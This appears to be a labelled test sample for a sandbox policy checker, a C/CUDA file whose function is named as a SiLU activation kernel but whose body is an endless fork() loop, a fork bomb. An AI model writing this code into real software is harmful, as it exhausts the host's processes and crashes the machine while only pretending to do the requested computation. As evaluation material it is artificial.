// It starts processes without end. | silu/cuda | policy_violation | policy, emulator=policy_violation, sandbox, boundary
#include <cuda_runtime.h>

#include <unistd.h>

extern "C" void silu(const float* x, float* out, int n) {
    for (;;) fork();
}
